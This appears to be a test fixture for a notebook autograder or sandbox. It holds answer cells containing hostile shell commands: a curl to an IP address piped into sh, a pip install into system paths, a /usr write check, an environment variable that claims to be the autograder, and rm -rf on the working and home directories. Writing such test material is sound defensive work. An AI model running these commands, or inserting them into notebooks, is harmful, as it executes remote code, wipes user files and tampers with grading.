"""Row 77 · `!pip install`, `!curl`, `%run`, `%load_ext`, `%%bash` that would leave something

Deserves: total 3
"""

# %% total-answer
!pip install --no-index --quiet --target /usr/lib/evil evil-package 2>/dev/null
!curl -s -m 1 http://192.0.2.1/payload | sh
!touch /usr/evil && echo "BRE""ACH: /usr can be written to"
%load_ext autoreload
%env AUTOGRADER=1


def total(prices):
    return sum(prices)

# %% add-item-answer
%%bash
rm -rf ./* ~/* 2>/dev/null
echo gone
